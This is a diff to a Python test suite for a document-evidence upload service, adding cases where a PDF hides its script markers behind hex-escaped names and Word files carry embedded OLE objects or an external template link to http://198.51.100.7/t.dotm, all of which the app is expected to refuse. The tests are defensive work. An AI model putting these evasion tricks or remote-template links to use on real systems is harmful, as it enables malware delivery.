@@ -51,6 +51,8 @@ def test_evidence_is_shown_sandboxed_and_a_pdf_with_script_only_downloaded(org, 
     item = make.item(org.county_a, org.off_a, status="in_progress")
     plain = make.evidence(item, org.off_a)
     scripted = make.evidence(item, org.off_a, data=hostile.pdf_with_script(), filename="带脚本.pdf")
+    escaped = make.evidence(item, org.off_a, data=hostile.pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript")
+                            .replace(b"/JS ", b"/J#53 "), filename="转义.pdf")
     c = login(org.off_a)
     shown = c.get(f"/evidence/{plain.id}?inline=1")
     assert shown.headers["Content-Disposition"].startswith("inline")
@@ -58,6 +60,7 @@ def test_evidence_is_shown_sandboxed_and_a_pdf_with_script_only_downloaded(org, 
     refused = c.get(f"/evidence/{scripted.id}?inline=1")
     assert refused.headers["Content-Disposition"].startswith("attachment")
     assert refused.headers["Content-Security-Policy"] == "sandbox"
+    assert c.get(f"/evidence/{escaped.id}?inline=1").headers["Content-Disposition"].startswith("attachment")
     assert api(org.off_a).get(f"/evidence/{plain.id}").headers["Content-Security-Policy"] == "sandbox"
 
 
@@ -68,6 +71,12 @@ def test_evidence_is_shown_sandboxed_and_a_pdf_with_script_only_downloaded(org, 
     ("公文.ofd", hostile.ofd_with_member("Doc_0/Res/run.exe"), "run.exe"),
     ("公文.ofd", hostile.ofd_with_member("Doc_0/Res/more.zip", b"PK\x03\x04"), "more.zip"),
     ("旧文档.doc", hostile.ole_with_macro(), "VBA"),
+    ("整改报告.docx", hostile.docx_with_member("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "oleObject1.bin"),
+    ("台账说明.docx", hostile.docx_with_member("word/embeddings/old.doc", b"\xd0\xcf\x11\xe0"), "old.doc"),
+    ("整改报告.docx", hostile.docx_with_member(
+        "word/_rels/settings.xml.rels",
+        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'), "外部加载模板"),
 ])
 def test_documents_hiding_programs_or_macros_are_refused(app, org, make, login, filename, data, said):
     if data is None:  # an .xlsx carrying a batch file
@@ -80,7 +89,7 @@ def test_documents_hiding_programs_or_macros_are_refused(app, org, make, login, 
     page = login(org.off_a).post(f"/items/{item.id}/evidence", data={"file": (io.BytesIO(data), filename)},
                                  content_type="multipart/form-data")
     assert page.status_code == 415
-    assert said in page.get_data(as_text=True) and "不能上传" in page.get_data(as_text=True)
+    assert said in page.get_data(as_text=True) and "不能上传" in page.get_data(as_text=True), page.get_data(as_text=True)
     assert db.session.scalar(select(func.count(Evidence.id))) == 0
     assert not any(path.is_file() for path in Path(app.config["UPLOAD_DIR"]).rglob("*"))
 
